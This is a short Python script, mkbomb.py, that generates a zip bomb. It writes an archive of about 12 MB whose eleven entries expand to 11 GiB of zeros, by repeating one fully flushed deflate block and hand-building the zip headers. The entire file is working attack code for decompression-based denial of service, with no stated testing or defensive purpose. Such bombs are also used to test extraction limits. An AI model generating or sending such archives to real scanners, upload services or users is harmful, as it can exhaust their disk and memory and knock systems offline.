#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""mkbomb.py FILE -- write a zip file of about 12 MB whose entries unpack to 11 GiB of zeros.

One entry's deflate stream is made of one block of zeros repeated: made in a second, with nothing large on the disk.
"""
import struct
import sys
import zlib

ENTRIES = 11
ENTRY_SIZE = 1 << 30
CHUNK = 1 << 24

packer = zlib.compressobj(9, zlib.DEFLATED, -15)
zeros = bytes(CHUNK)
# flushed completely, a block refers to nothing in front of it and can stand any number of times
block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
data = block * (ENTRY_SIZE // CHUNK) + packer.flush(zlib.Z_FINISH)
crc = 0
for _ in range(ENTRY_SIZE // CHUNK):
    crc = zlib.crc32(zeros, crc)

central = b""
with open(sys.argv[1], "wb") as bomb:
    for entry in range(ENTRIES):
        name = b"zeros-%02d" % entry
        common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, crc, len(data), ENTRY_SIZE, len(name), 0)
        central += (b"PK\x01\x02" + struct.pack("<H", 20) + common +
                    struct.pack("<HHHII", 0, 0, 0, 0, bomb.tell()) + name)
        bomb.write(b"PK\x03\x04" + common + name + data)
    start = bomb.tell()
    bomb.write(central)
    bomb.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, ENTRIES, ENTRIES, len(central), start, 0))
